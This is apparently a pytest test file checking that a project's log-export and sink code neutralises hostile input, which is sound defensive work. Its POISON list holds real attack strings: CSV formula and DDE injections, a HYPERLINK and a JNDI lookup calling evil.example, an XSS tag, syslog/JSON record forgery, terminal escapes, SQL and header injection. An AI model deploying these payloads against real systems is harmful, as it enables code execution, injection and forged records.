"""Poison in records: nothing that a stranger typed acts on who reads an export, or passes for a record."""

import csv
import io
import json
import re
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sink_collector import parse_octets
from sink_rig import decision, event

from limen.core.errors import Invalid
from limen.core.record import Record
from limen.core.secret import Secret
from limen.journal.export.formats import COLUMNS, ENCODERS, render_csv
from limen.journal.export.parquet import write_parquet
from limen.journal.export.pseudonyms import Pseudonyms, check_key
from limen.journal.export.rows import Joiner, Row, Wanted
from limen.journal.export.text import TEXT_MAX, render_cell
from limen.journal.follow import Stored
from limen.services.sinks.https import HttpsSender, bearer, idempotency_key
from limen.services.sinks.otlp import OtlpSender
from limen.services.sinks.ports import Message
from limen.services.sinks.syslog import frame, header_word, render_syslog
from limen.services.sinks.tls import collector_context

AT = 1_800_000_000.0
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", '"=1', "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")', "a;=1", 'a","=1', "a|=1", "＝1", "＋1", "－1", "＠x",
    "\u200b=1", "\ufeff=1", "\x00=1", "\x0b-1",
)  # fmt: skip
POISON = (
    *FORMULAS,
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\x7f",
    "a\x00b",
    "a\r\n<110>1 - forged limen - - - {}",
    '"}\n{"type":"decision","verdict":"allow"}',
    "\u2028{}\u2029",
    "\ud800 lone",
    "\udfff",
    "\u202egpj.exe",
    "\u2066x\u2069",
    "\U000e0041",
    "<script>alert(1)</script>",
    "]]><x>",
    "${jndi:ldap://evil.example}",
    "%n%s",
    '\\"',
    "\\u0000",
    "x" * 70_000,
)
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b-\u200f\ud800-\udfff]")


def poisoned(text: str) -> list[Record]:
    return [
        decision(AT, path=text, host=text, method=text, ip=text, subject=text, resource=text, id=text,
                 code=text, policies=(text,), verdict=text, session=text, node=text, action=text),
        event(AT, 1, kind=text, actor=text, target=text, reason=text, ip=text,
              data={text: text, "why": text, "methods": [text], "person": text, "client": text}),
        event(AT, 2, kind="grant.added", target=text,
              data={"principal": text, "actions": [text], "resource": text}),
    ]  # fmt: skip


def rows(text: str, *, hidden: bool = False) -> list[Row]:
    batch = [Stored("gateway-a", "00000001-0a0b0c0d", place, one) for place, one in enumerate(poisoned(text))]
    found = Joiner(Wanted()).rows(batch)
    if not hidden:
        return found
    hide = Pseudonyms(check_key(b"k" * 32, "the test's key"))
    return [Row(row.node, row.boot, row.position, hide.apply(row.fields)) for row in found]


def messages(text: str, form: str = "jsonl") -> list[Message]:
    return [Message(row, ENCODERS[form](row)) for row in rows(text)]


@pytest.mark.parametrize("form", ["ocsf", "jsonl"])
@pytest.mark.parametrize("text", POISON, ids=ascii)
def test_each_record_is_one_line_of_strict_ascii_json(text: str, form: str) -> None:
    for hidden in (False, True):
        for row in rows(text, hidden=hidden):
            line = ENCODERS[form](row)
            assert not re.search(rb"[^ -~]", line)
            assert isinstance(json.loads(line), dict)
            json.loads(line.decode()).__repr__().encode("utf-8")  # no lone surrogate is left


@given(st.text(max_size=30) | st.text(st.characters(categories=["Cs", "Cc", "Cf"]), max_size=8))
def test_x1_one_line(text: str) -> None:
    for form in ENCODERS:
        for row in rows(text):
            line = ENCODERS[form](row)
            assert not re.search(rb"[^ -~]", line)
            json.dumps(json.loads(line), ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize("text", POISON, ids=ascii)
def test_a_spreadsheet_executes_nothing(text: str) -> None:
    written = b"".join(render_csv(rows(text))).decode("utf-8")
    lines = list(csv.reader(io.StringIO(written)))
    assert [len(line) for line in lines] == [len(COLUMNS)] * 4
    assert written.count("\r\n") == 4 and written.count("\n") == 4
    for cell in (cell for line in lines for cell in line):
        assert_harmless(cell)


@given(st.text(st.sampled_from("=+-@;,|\t\r\n '\"a1＝\u200b\x00"), max_size=12))
def test_x2_no_formula(text: str) -> None:
    cell = render_cell(text)
    assert_harmless(cell)
    for separator in ";,|":  # where a locale splits elsewhere, a part of the cell is a cell
        for part in cell.split(separator):
            assert_harmless(part.strip('" '))


def assert_harmless(cell: str) -> None:
    assert not re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell), ascii(cell)
    assert not CONTROL.search(cell), ascii(cell)


def test_numbers_stay_numbers() -> None:
    (line, *_) = csv.DictReader(io.StringIO(b"".join(render_csv(rows("-1"))).decode()))
    assert (line["took_us"], line["path"]) == ("", "'-1")


def test_parquet_takes_what_no_table_should_hold(tmp_path: Path) -> None:
    found = [row for text in POISON for row in rows(text)]
    write_parquet(found, tmp_path / "'; DROP TABLE x; --.parquet")
    with duckdb.connect() as database:
        table = database.execute(
            "SELECT uid, path FROM read_parquet($1)", [str(tmp_path / "'; DROP TABLE x; --.parquet")]
        ).fetchall()
    assert [line[0] for line in table] == [row.uid for row in found]
    assert "<script>alert(1)</script>" in [line[1] for line in table]


@pytest.mark.parametrize("text", POISON, ids=ascii)
def test_syslog_framing_cannot_be_broken_from_inside(text: str) -> None:
    for host in ("gw.corp.example", text):
        sent = [render_syslog(message, header_word(host, 255)) for message in messages(text)]
        assert parse_octets(b"".join(frame(one) for one in sent)) == sent
        for one in sent:
            assert not re.search(rb"[^ -~]", one)
            head = one.split(b" ", 7)
            assert re.fullmatch(rb"<1(04|06|08|10)>1", head[0]) and len(head[5]) <= 32
            assert json.loads(head[7])["uid"].startswith("gateway-a/")


@pytest.mark.parametrize("text", POISON, ids=ascii)
def test_an_https_header_holds_nothing_that_was_typed(text: str) -> None:
    made = [Message(Row(text, text, 1, one.row.fields), one.body) for one in messages(text)]
    assert re.fullmatch(r'"[A-Za-z0-9._/-]+"', idempotency_key(made))


@pytest.mark.parametrize("token", ["a\r\nX-Evil: 1", "a b", "é", "", "a\x00"])
def test_a_token_that_would_end_its_header_is_refused(token: str) -> None:
    with pytest.raises(Invalid) as refused:
        bearer(Secret(token))
    assert token == "" or token not in refused.value.message


@pytest.mark.parametrize("text", POISON, ids=ascii)
def test_a_batch_holds_as_many_records_as_were_sent(text: str) -> None:
    context = collector_context(None)
    whole = messages(text, "ocsf")
    array = HttpsSender("https://collector.example", context, as_array=True).render(whole)
    assert len(json.loads(array)) == 3
    lines = HttpsSender("https://collector.example", context).render(messages(text))
    assert len(lines.splitlines()) == 3
    request = json.loads(OtlpSender("https://c.example", context).render(whole))
    records = request["resourceLogs"][0]["scopeLogs"][0]["logRecords"]
    assert [json.loads(one["body"]["stringValue"]) for one in records] == [
        json.loads(one.body) for one in whole
    ]


def test_a_value_without_end_is_cut() -> None:
    for row in rows("x" * 1_000_000):
        assert all(len(line) < TEXT_MAX * 40 for line in (ENCODERS["ocsf"](row), ENCODERS["jsonl"](row)))


def test_data_without_end_or_bottom_is_cut() -> None:
    deep: object = "x"
    for _ in range(200):
        deep = {"why": [deep]}
    batch = [Stored("n", "b", 0, event(AT, 1, data={"why": deep, "methods": ["x"] * 100_000}))]
    (row,) = Joiner(Wanted()).rows(batch)
    assert len(ENCODERS["jsonl"](row)) < 2_000
